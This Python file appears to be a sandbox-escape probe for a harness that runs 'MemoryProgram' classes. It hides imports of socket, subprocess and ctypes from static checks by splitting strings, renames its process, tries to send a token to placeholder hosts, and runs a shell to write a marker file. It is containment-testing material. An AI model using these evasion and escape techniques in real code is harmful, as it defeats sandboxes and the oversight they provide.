"""Smuggles forbidden modules past static checks, then tries a socket, a shell and a file write."""
from design_space import MemoryProgram, Recall

_imp = getattr(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__), "get")("__imp" + "ort__")
_importlib = _imp("import" + "lib")
_sock = _importlib.import_module("so" + "cket")
_sp = _imp("subpro" + "cess")
_ct = getattr(_imp("ctyp" + "es"), "CDLL")
_ct(None).prctl(15, b"__TOKEN__", 0, 0, 0)

TARGETS = __TARGETS__
ESCAPE = __ESCAPE__


class Memory(MemoryProgram):
    def encode(self, event):
        outcome = []
        for host, port in TARGETS:
            try:
                _sock.create_connection((host, port), timeout=1.0).sendall(b"__TOKEN__")
                outcome.append(f"{host}:{port} CONNECTED")
            except OSError as exc:
                outcome.append(f"{host}:{port} {exc.__class__.__name__}")
        try:
            done = _sp.run(["/bin/sh", "-c", f"echo escaped > {ESCAPE}"], capture_output=True, timeout=5)
            outcome.append(f"shell rc={done.returncode}")
        except Exception as exc:
            outcome.append(f"shell {exc.__class__.__name__}")
        raise RuntimeError("smuggle probe: " + "; ".join(outcome))

    def store(self, records):
        pass

    def retrieve(self, query):
        return Recall(())

    def manage(self, signal):
        pass
